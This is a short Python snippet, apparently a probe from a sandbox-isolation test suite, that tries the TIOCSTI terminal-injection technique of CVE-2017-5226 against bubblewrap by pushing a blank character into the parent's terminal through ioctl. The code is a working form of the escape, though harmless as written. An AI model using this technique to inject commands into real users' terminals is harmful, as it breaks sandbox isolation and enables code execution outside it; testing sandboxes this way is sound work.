"""Push a blank into the terminal of whoever started us (CVE-2017-5226).

See: https://github.com/containers/bubblewrap/issues/142
Layers: main bare
"""


def attempt():
    for descriptor in range(16):
        try:
            fcntl.ioctl(descriptor, 0x5412, b" ")
            return 1.0
        except OSError:
            pass
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b" ")
    return 1.0
